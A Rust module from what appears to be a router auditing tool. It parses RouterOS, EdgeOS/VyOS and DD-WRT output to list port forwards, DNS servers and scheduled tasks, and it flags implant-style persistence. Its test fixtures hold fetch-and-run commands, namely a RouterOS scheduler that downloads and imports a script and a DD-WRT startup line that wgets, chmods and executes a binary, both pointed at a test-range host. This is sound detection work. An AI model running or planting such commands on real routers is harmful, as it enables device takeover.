//! Parsers for the output of platforms that are not plain Linux shells:
//! MikroTik RouterOS (`print` of its console), the `config.boot` of
//! Ubiquiti EdgeOS and VyOS, and DD-WRT's `nvram`.
//!
//! Why apart from `checks`: these formats are the vendors', not the
//! kernel's, and none of them can run in the test lab (only busybox and
//! OpenWrt-like routers do). Their unit tests use output written from the
//! vendors' documented formats (RouterOS manual: `print`, `print detail`;
//! VyOS and EdgeOS configuration guides: `config.boot`; DD-WRT wiki: nvram
//! variables), not captured from devices: a real device may differ in
//! spacing or in fields added by later versions, which the parsers
//! tolerate (unknown fields are ignored, fields are found by name).

use std::collections::BTreeMap;
use std::net::IpAddr;

use crate::checks::Forward;

/// A RouterOS duration (`1w2d3h4m5s`, `3d02:04:05`, `00:10:00`) in
/// seconds.
pub fn routeros_duration(s: &str) -> Option<f64> {
    let s = s.trim();
    if s.is_empty() {
        return None;
    }
    let mut total = 0f64;
    let mut num = String::new();
    let mut rest = s;
    // Unit-suffixed part.
    while let Some(c) = rest.chars().next() {
        if c.is_ascii_digit() {
            num.push(c);
        } else if let Some(mult) = match c {
            'w' => Some(604_800.0),
            'd' => Some(86_400.0),
            'h' => Some(3_600.0),
            'm' => Some(60.0),
            's' => Some(1.0),
            _ => None,
        } {
            total += num.parse::<f64>().ok()? * mult;
            num.clear();
        } else if c == ':' {
            break;
        } else {
            return None;
        }
        rest = &rest[c.len_utf8()..];
    }
    if let Some(clock) = rest.strip_prefix(':') {
        // `hh:mm:ss`, whose hours were read into `num`.
        let mut parts = vec![num.clone()];
        parts.extend(clock.split(':').map(str::to_string));
        if parts.len() != 3 {
            return None;
        }
        let v: Vec<f64> = parts
            .iter()
            .map(|p| p.parse::<f64>())
            .collect::<Result<_, _>>()
            .ok()?;
        total += v[0] * 3600.0 + v[1] * 60.0 + v[2];
    } else if !num.is_empty() {
        return None;
    }
    Some(total)
}

/// `key: value` lines of a RouterOS `print` of a single item
/// (`/system resource print`, `/ip dns print`) → key → (value, line).
pub fn routeros_fields(t: &str) -> BTreeMap<String, (String, usize)> {
    let mut m = BTreeMap::new();
    for (n, line) in t.lines().enumerate() {
        if let Some((k, v)) = line.split_once(':') {
            let k = k.trim();
            if !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') {
                m.insert(k.to_string(), (v.trim().to_string(), n));
            }
        }
    }
    m
}

/// One item of a RouterOS `print detail` (`/ip firewall nat print
/// detail`, `/system scheduler print detail`):
///
/// ```text
/// Flags: X - disabled, I - invalid, D - dynamic
///  0    ;;; forward ssh to the NAS
///       chain=dstnat action=dst-nat to-addresses=192.168.88.10 to-ports=22
///       protocol=tcp dst-port=2222 log=no log-prefix=""
///  1 X  chain=dstnat action=dst-nat to-addresses=203.0.113.5 to-ports=11288
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RosItem {
    pub index: u32,
    /// Flag letters (`X` disabled, `D` dynamic, `I` invalid).
    pub flags: String,
    pub comment: Option<String>,
    pub fields: BTreeMap<String, String>,
    /// Line numbers (0-based) of the item.
    pub lines: Vec<usize>,
}

impl RosItem {
    pub fn get(&self, k: &str) -> Option<&str> {
        self.fields.get(k).map(String::as_str)
    }
    pub fn disabled(&self) -> bool {
        self.flags.contains('X') || self.get("disabled") == Some("yes")
    }
}

/// `key=value` pairs, values either bare or in double quotes (with `\"`
/// inside), as RouterOS prints them.
fn routeros_pairs(s: &str, into: &mut BTreeMap<String, String>) {
    let b = s.as_bytes();
    let mut i = 0;
    while i < b.len() {
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let ks = i;
        while i < b.len() && b[i] != b'=' && !b[i].is_ascii_whitespace() {
            i += 1;
        }
        if i >= b.len() || b[i] != b'=' {
            continue;
        }
        let key = &s[ks..i];
        i += 1;
        let value = if i < b.len() && b[i] == b'"' {
            i += 1;
            let mut v = String::new();
            while i < b.len() && b[i] != b'"' {
                if b[i] == b'\\' && i + 1 < b.len() {
                    i += 1;
                }
                let ch = s[i..].chars().next().unwrap_or(' ');
                v.push(ch);
                i += ch.len_utf8();
            }
            i += 1;
            v
        } else {
            let vs = i;
            while i < b.len() && !b[i].is_ascii_whitespace() {
                i += 1;
            }
            s[vs..i].to_string()
        };
        if !key.is_empty() {
            into.insert(key.to_string(), value);
        }
    }
}

/// Parse a RouterOS `print detail`.
pub fn parse_routeros_detail(t: &str) -> Vec<RosItem> {
    let mut items: Vec<RosItem> = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let trimmed = line.trim_start();
        if trimmed.starts_with("Flags:") || trimmed.is_empty() {
            continue;
        }
        let first = trimmed.split_whitespace().next().unwrap_or("");
        let starts_item = line.starts_with(' ')
            && first.chars().all(|c| c.is_ascii_digit())
            && !first.is_empty()
            && (line.len() - trimmed.len()) <= 3;
        let body = if starts_item {
            let index = first.parse().unwrap_or(0);
            let after = trimmed[first.len()..].trim_start();
            // Flag letters stand alone before the fields or the comment.
            let (flags, rest) = match after.split_once(char::is_whitespace) {
                Some((f, r))
                    if !f.contains('=')
                        && !f.starts_with(";;;")
                        && f.chars().all(|c| c.is_ascii_uppercase() || c == '*') =>
                {
                    (f.to_string(), r)
                }
                _ => (String::new(), after),
            };
            items.push(RosItem {
                index,
                flags,
                comment: None,
                fields: BTreeMap::new(),
                lines: vec![n],
            });
            rest.to_string()
        } else {
            if let Some(it) = items.last_mut() {
                it.lines.push(n);
            }
            trimmed.to_string()
        };
        let Some(it) = items.last_mut() else { continue };
        let body = body.trim();
        if let Some(c) = body.strip_prefix(";;;") {
            it.comment = Some(c.trim().to_string());
        } else {
            routeros_pairs(body, &mut it.fields);
        }
    }
    items
}

/// The DST-NAT and redirect rules of `/ip firewall nat print detail`
/// (enabled ones).
pub fn routeros_forwards(t: &str) -> Vec<Forward> {
    let mut v = Vec::new();
    for it in parse_routeros_detail(t) {
        if it.disabled() {
            continue;
        }
        let kind = match it.get("action") {
            Some("dst-nat") | Some("netmap") => "dnat",
            Some("redirect") => "redirect",
            _ => continue,
        };
        let to_addr = it
            .get("to-addresses")
            .and_then(|a| a.split('-').next())
            .and_then(|a| a.parse::<IpAddr>().ok());
        let to_port = it
            .get("to-ports")
            .and_then(|p| p.split('-').next())
            .and_then(|p| p.parse().ok())
            .or_else(|| it.get("dst-port").and_then(|p| p.parse().ok()));
        v.push(Forward {
            kind: if kind == "dnat" && to_addr.is_none() {
                "redirect"
            } else {
                kind
            },
            source: "routeros",
            proto: it.get("protocol").map(str::to_string),
            match_port: it.get("dst-port").map(str::to_string),
            to_addr,
            to_port,
            lines: it.lines.clone(),
        });
    }
    v
}

/// Why a RouterOS script or scheduler's code is suspicious, as
/// Microsoft's RouterOS forensics tool and the Trickbot and Meris write-ups
/// describe the implants' persistence: fetching and running code, turning
/// on the SOCKS or web proxy, changing the DNS servers.
pub fn routeros_suspicious(code: &str) -> Option<&'static str> {
    let c = code.to_ascii_lowercase();
    if c.contains("/tool fetch") || c.contains("fetch url=") || c.contains("fetch mode=") {
        return Some("it downloads something (/tool fetch)");
    }
    if c.contains("/ip socks set") && c.contains("enabled=yes") {
        return Some("it turns on the SOCKS proxy");
    }
    if c.contains("/ip proxy set") && c.contains("enabled=yes") {
        return Some("it turns on the web proxy");
    }
    if c.contains("/ip dns set") && c.contains("servers=") {
        return Some("it changes the DNS servers");
    }
    if c.contains("/import ") {
        return Some("it imports a script file");
    }
    None
}

/// One leaf of a `config.boot` (EdgeOS, VyOS): the nodes above it and
/// the line itself, unquoted.
///
/// ```text
/// system {
///     name-server 192.0.2.53
///     task-scheduler {
///         task update {
///             executable {
///                 path /config/scripts/update.sh
///             }
///             interval 1d
///         }
///     }
/// }
/// ```
///
/// gives `(["system"], "name-server 192.0.2.53")`,
/// `(["system", "task-scheduler", "task update", "executable"], "path
/// /config/scripts/update.sh")`…
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ConfigLeaf {
    pub context: Vec<String>,
    pub leaf: String,
    pub line: usize,
}

/// Parse a `config.boot`. Comments (`/* … */` lines) are skipped.
pub fn parse_config_boot(t: &str) -> Vec<ConfigLeaf> {
    let mut ctx: Vec<String> = Vec::new();
    let mut v = Vec::new();
    for (n, line) in t.lines().enumerate() {
        let l = line.trim();
        if l.is_empty() || l.starts_with("/*") || l.starts_with("//") {
            continue;
        }
        if l == "}" {
            ctx.pop();
        } else if let Some(node) = l.strip_suffix('{') {
            ctx.push(node.trim().to_string());
        } else {
            v.push(ConfigLeaf {
                context: ctx.clone(),
                leaf: l.replace('"', ""),
                line: n,
            });
        }
    }
    v
}

/// The value of leaf `key value` in `leaf`, when its key is `key`.
fn leaf_value<'a>(leaf: &'a str, key: &str) -> Option<&'a str> {
    let (k, v) = leaf.split_once(' ')?;
    (k == key).then_some(v.trim())
}

/// DNS servers a `config.boot` names: `system name-server`, `service dns
/// forwarding name-server`, with their lines.
pub fn config_boot_dns(leaves: &[ConfigLeaf]) -> Vec<(IpAddr, usize)> {
    leaves
        .iter()
        .filter(|l| {
            l.context == ["system"] || l.context.ends_with(&["dns".into(), "forwarding".into()])
        })
        .filter_map(|l| Some((leaf_value(&l.leaf, "name-server")?.parse().ok()?, l.line)))
        .collect()
}

/// Port forwards of a `config.boot`: EdgeOS `port-forward rule N {
/// forward-to { address A port P } original-port O protocol tcp }`,
/// EdgeOS `service nat rule N { type destination inside-address { address
/// A port P } destination { port O } }` and VyOS `nat destination rule N {
/// destination { port O } translation { address A port P } }`. Rules
/// with a `disable` leaf are left out.
pub fn config_boot_forwards(leaves: &[ConfigLeaf]) -> Vec<Forward> {
    // (rule's context) → leaves under it, relative.
    let mut rules: BTreeMap<Vec<String>, Vec<(Vec<String>, &ConfigLeaf)>> = BTreeMap::new();
    for l in leaves {
        let c = &l.context;
        let root_len = if c.first().map(String::as_str) == Some("port-forward") {
            2
        } else if c.len() >= 3
            && ((c[0] == "service" && c[1] == "nat") || (c[0] == "nat" && c[1] == "destination"))
        {
            3
        } else {
            continue;
        };
        if c.len() < root_len || !c[root_len - 1].starts_with("rule ") {
            continue;
        }
        rules
            .entry(c[..root_len].to_vec())
            .or_default()
            .push((c[root_len..].to_vec(), l));
    }
    let mut v = Vec::new();
    for (rule, ls) in rules {
        let find = |sub: &[&str], key: &str| {
            ls.iter()
                .find(|(c, l)| {
                    c.iter().map(String::as_str).eq(sub.iter().copied())
                        && leaf_value(&l.leaf, key).is_some()
                })
                .and_then(|(_, l)| leaf_value(&l.leaf, key))
        };
        if ls.iter().any(|(c, l)| c.is_empty() && l.leaf == "disable") {
            continue;
        }
        let (addr, port, orig) = match rule[0].as_str() {
            "port-forward" => (
                find(&["forward-to"], "address"),
                find(&["forward-to"], "port"),
                find(&[], "original-port"),
            ),
            "service" => {
                if find(&[], "type") != Some("destination") {
                    continue;
                }
                (
                    find(&["inside-address"], "address"),
                    find(&["inside-address"], "port"),
                    find(&["destination"], "port"),
                )
            }
            _ => (
                find(&["translation"], "address"),
                find(&["translation"], "port"),
                find(&["destination"], "port"),
            ),
        };
        let to_addr = addr.and_then(|a| a.parse::<IpAddr>().ok());
        let to_port = port
            .or(orig)
            .and_then(|p| p.split('-').next()?.parse().ok());
        if to_addr.is_none() && to_port.is_none() {
            continue;
        }
        v.push(Forward {
            kind: if to_addr.is_some() {
                "dnat"
            } else {
                "redirect"
            },
            source: "config.boot",
            proto: find(&[], "protocol").map(str::to_string),
            match_port: orig.map(str::to_string),
            to_addr,
            to_port,
            lines: ls.iter().map(|(_, l)| l.line).collect(),
        });
    }
    v
}

/// Programs the task scheduler of a `config.boot` runs (`system
/// task-scheduler task NAME executable path P`): (task, path, line).
pub fn config_boot_tasks(leaves: &[ConfigLeaf]) -> Vec<(String, String, usize)> {
    leaves
        .iter()
        .filter(|l| {
            l.context.len() == 4
                && l.context[0] == "system"
                && l.context[1] == "task-scheduler"
                && l.context[3] == "executable"
        })
        .filter_map(|l| {
            let task = l.context[2].strip_prefix("task ")?.to_string();
            let path = leaf_value(&l.leaf, "path")?.to_string();
            Some((task, path, l.line))
        })
        .collect()
}

/// DD-WRT nvram as the `nvram` probe prints it: `name=value` for each
/// variable asked, a value running over several lines until the next
/// asked name (`rc_startup` holds a whole script).
pub fn parse_nvram<'t>(t: &'t str, names: &[&str]) -> BTreeMap<String, Vec<(usize, &'t str)>> {
    let mut m: BTreeMap<String, Vec<(usize, &str)>> = BTreeMap::new();
    let mut cur: Option<String> = None;
    for (n, line) in t.lines().enumerate() {
        if let Some((k, v)) = line.split_once('=')
            && names.contains(&k)
        {
            cur = Some(k.to_string());
            m.entry(k.to_string()).or_default().push((n, v));
            continue;
        }
        if let Some(k) = &cur {
            m.entry(k.clone()).or_default().push((n, line));
        }
    }
    m
}

/// DD-WRT's port forwards: `forward_spec` (single ports,
/// `name:on:tcp:8080>192.168.1.10:80`) and `forward_port` (ranges,
/// `name:on:both:1000-2000>192.168.1.20`), entries separated by spaces;
/// `off` entries are left out.
pub fn ddwrt_forwards(spec: &[(usize, &str)]) -> Vec<Forward> {
    let mut v = Vec::new();
    for (n, line) in spec {
        for e in line.split_whitespace() {
            let Some((left, right)) = e.split_once('>') else {
                continue;
            };
            let f: Vec<&str> = left.split(':').collect();
            if f.len() < 4 || f[1] != "on" {
                continue;
            }
            let (addr, port) = match right.split_once(':') {
                Some((a, p)) => (a, Some(p)),
                None => (right, None),
            };
            let Ok(to_addr) = addr.parse::<IpAddr>() else {
                continue;
            };
            let from = f[3];
            v.push(Forward {
                kind: "dnat",
                source: "nvram",
                proto: Some(f[2].to_string()),
                match_port: Some(from.to_string()),
                to_addr: Some(to_addr),
                to_port: port
                    .or(Some(from))
                    .and_then(|p| p.split('-').next()?.parse().ok()),
                lines: vec![*n],
            });
        }
    }
    v
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// `/system resource print` and `/ip dns print`, RouterOS 6.49 layout
    /// (right-aligned keys), written from the RouterOS manual.
    const RESOURCE: &str = "                   uptime: 5w2d03:14:07\n                  version: 6.48.3 (stable)\n               build-time: Jun/01/2021 12:35:47\n         factory-software: 6.44.6\n              free-memory: 203.8MiB\n             total-memory: 256.0MiB\n                      cpu: MIPS 1004Kc V2.15\n                cpu-count: 4\n           cpu-frequency: 880MHz\n                 cpu-load: 1%\n           free-hdd-space: 3.6MiB\n                board-name: hEX\n                 platform: MikroTik\n";

    #[test]
    fn routeros_single_item_prints() {
        let f = routeros_fields(RESOURCE);
        assert_eq!(f["version"].0, "6.48.3 (stable)");
        assert_eq!(f["board-name"].0, "hEX");
        assert_eq!(
            routeros_duration(&f["uptime"].0),
            Some(5.0 * 604_800.0 + 2.0 * 86_400.0 + 3.0 * 3600.0 + 14.0 * 60.0 + 7.0)
        );
        assert_eq!(routeros_duration("3d2h22m36s"), Some(267_756.0));
        assert_eq!(routeros_duration("00:10:00"), Some(600.0));
        assert_eq!(routeros_duration("2h"), Some(7200.0));
        assert_eq!(routeros_duration("soon"), None);
        assert_eq!(routeros_duration("12"), None);
        assert_eq!(routeros_duration("1:2"), None);
    }

    /// `/ip firewall nat print detail`, RouterOS 6.x layout.
    pub const NAT_DETAIL: &str = "Flags: X - disabled, I - invalid, D - dynamic \n 0    chain=srcnat action=masquerade out-interface-list=WAN log=no log-prefix=\"\" \n\n 1    ;;; ssh to the NAS\n      chain=dstnat action=dst-nat to-addresses=192.168.88.10 to-ports=22 protocol=tcp \n      in-interface=ether1 dst-port=2222 log=no log-prefix=\"\" \n\n 2    chain=dstnat action=dst-nat to-addresses=203.0.113.5 to-ports=11288 protocol=tcp \n      dst-port=8443 log=no log-prefix=\"\" \n\n 3 X  chain=dstnat action=dst-nat to-addresses=198.51.100.1 to-ports=443 protocol=tcp \n      dst-port=443 log=no log-prefix=\"\" \n\n 4    chain=dstnat action=redirect to-ports=53 protocol=udp dst-port=53 log=no \n      log-prefix=\"\" \n";

    #[test]
    fn routeros_nat_detail() {
        let items = parse_routeros_detail(NAT_DETAIL);
        assert_eq!(items.len(), 5);
        assert_eq!(items[1].comment.as_deref(), Some("ssh to the NAS"));
        assert_eq!(items[1].get("dst-port"), Some("2222"));
        assert_eq!(items[1].lines, [3, 4, 5]);
        assert!(items[3].disabled());
        assert_eq!(items[0].get("log-prefix"), Some(""));
        let f = routeros_forwards(NAT_DETAIL);
        assert_eq!(
            f.iter()
                .map(|f| (f.kind, f.destination(), f.match_port.clone()))
                .collect::<Vec<_>>(),
            [
                ("dnat", "192.168.88.10:22".to_string(), Some("2222".into())),
                ("dnat", "203.0.113.5:11288".to_string(), Some("8443".into())),
                ("redirect", ":53".to_string(), Some("53".into())),
            ]
        );
    }

    /// `/system scheduler print detail` and `/system script print detail`,
    /// written after the RouterOS manual and the persistence Microsoft's
    /// RouterOS forensics tool looks for.
    pub const SCHEDULER: &str = "Flags: X - disabled \n 0   name=\"backup\" start-date=jan/01/2021 start-time=03:00:00 interval=1d on-event=\"/system backup save name=nightly\" owner=\"admin\" \n     policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon run-count=12 next-run=jun/02/2021 03:00:00 \n\n 1   name=\"upd113\" start-time=startup interval=10m on-event=\"/tool fetch url=\\\"http://203.0.113.9/u.rsc\\\" dst-path=u.rsc; /import u.rsc\" \n     owner=\"admin\" policy=ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon run-count=88 \n";

    #[test]
    fn routeros_scheduler_detail() {
        let items = parse_routeros_detail(SCHEDULER);
        assert_eq!(items.len(), 2);
        assert_eq!(items[1].get("name"), Some("upd113"));
        let ev = items[1].get("on-event").unwrap();
        assert!(ev.contains("http://203.0.113.9/u.rsc"), "{ev}");
        assert_eq!(
            routeros_suspicious(ev),
            Some("it downloads something (/tool fetch)")
        );
        assert_eq!(routeros_suspicious(items[0].get("on-event").unwrap()), None);
        assert!(routeros_suspicious("/ip socks set enabled=yes port=5678").is_some());
        assert!(routeros_suspicious("/ip dns set servers=203.0.113.53").is_some());
    }

    /// A `config.boot` of EdgeOS 2.0 (port-forward, service nat) and of
    /// VyOS 1.3 (nat destination), written after their configuration
    /// guides.
    pub const EDGEOS_CONFIG: &str = "port-forward {\n    auto-firewall enable\n    lan-interface eth1\n    rule 1 {\n        description ssh-nas\n        forward-to {\n            address 192.168.1.10\n            port 22\n        }\n        original-port 2222\n        protocol tcp\n    }\n    rule 2 {\n        description x\n        forward-to {\n            address 203.0.113.5\n            port 11288\n        }\n        original-port 8443\n        protocol tcp\n    }\n    wan-interface eth0\n}\nservice {\n    dns {\n        forwarding {\n            cache-size 150\n            listen-on eth1\n            name-server 203.0.113.53\n        }\n    }\n    nat {\n        rule 1 {\n            description web\n            destination {\n                port 8080\n            }\n            inbound-interface eth0\n            inside-address {\n                address 192.168.1.20\n                port 80\n            }\n            protocol tcp\n            type destination\n        }\n        rule 5010 {\n            outbound-interface eth0\n            type masquerade\n        }\n    }\n}\nsystem {\n    host-name ubnt\n    name-server 192.0.2.53\n    task-scheduler {\n        task upd {\n            executable {\n                path /tmp/.u/run.sh\n            }\n            interval 10m\n        }\n    }\n}\n/* Warning: Do not remove the following line. */\n/* === vyatta-config-version: \"config-management@1:conntrack@1\" === */\n";

    pub const VYOS_CONFIG: &str = "nat {\n    destination {\n        rule 10 {\n            description \"Port Forward: HTTP\"\n            destination {\n                port 80\n            }\n            inbound-interface eth0\n            protocol tcp\n            translation {\n                address 192.168.0.100\n            }\n        }\n        rule 20 {\n            disable\n            destination {\n                port 22\n            }\n            translation {\n                address 198.51.100.7\n            }\n        }\n    }\n}\nsystem {\n    name-server 192.0.2.53\n}\n";

    #[test]
    fn config_boot() {
        let l = parse_config_boot(EDGEOS_CONFIG);
        let dns: Vec<String> = config_boot_dns(&l)
            .iter()
            .map(|(ip, _)| ip.to_string())
            .collect();
        assert_eq!(dns, ["203.0.113.53", "192.0.2.53"]);
        let f = config_boot_forwards(&l);
        assert_eq!(
            f.iter()
                .map(|f| (f.destination(), f.match_port.clone(), f.proto.clone()))
                .collect::<Vec<_>>(),
            [
                (
                    "192.168.1.10:22".to_string(),
                    Some("2222".into()),
                    Some("tcp".into())
                ),
                (
                    "203.0.113.5:11288".to_string(),
                    Some("8443".into()),
                    Some("tcp".into())
                ),
                (
                    "192.168.1.20:80".to_string(),
                    Some("8080".into()),
                    Some("tcp".into())
                ),
            ]
        );
        assert_eq!(
            config_boot_tasks(&l),
            [("upd".to_string(), "/tmp/.u/run.sh".to_string(), 57)]
        );
        let v = parse_config_boot(VYOS_CONFIG);
        let f = config_boot_forwards(&v);
        assert_eq!(
            f.iter().map(|f| f.destination()).collect::<Vec<_>>(),
            ["192.168.0.100:80"],
            "rule 20 is disabled"
        );
    }

    #[test]
    fn ddwrt_nvram() {
        let t = "wan_dns=203.0.113.53 192.0.2.53\nforward_spec=nas:on:tcp:2222>192.168.1.10:22 old:off:tcp:80>192.168.1.11:80 x:on:both:8443>203.0.113.5:11288\nforward_port=games:on:udp:27000-27015>192.168.1.30\nrc_startup=#!/bin/sh\nwget -O /tmp/x http://203.0.113.9/x && chmod +x /tmp/x && /tmp/x\nrc_firewall=\n";
        let m = parse_nvram(
            t,
            &[
                "wan_dns",
                "forward_spec",
                "forward_port",
                "rc_startup",
                "rc_firewall",
            ],
        );
        assert_eq!(m["rc_startup"].len(), 2);
        assert_eq!(m["rc_firewall"], [(5, "")]);
        let mut spec = m["forward_spec"].clone();
        spec.extend(m["forward_port"].iter().copied());
        let f = ddwrt_forwards(&spec);
        assert_eq!(
            f.iter().map(|f| f.destination()).collect::<Vec<_>>(),
            ["192.168.1.10:22", "203.0.113.5:11288", "192.168.1.30:27000"]
        );
    }
}
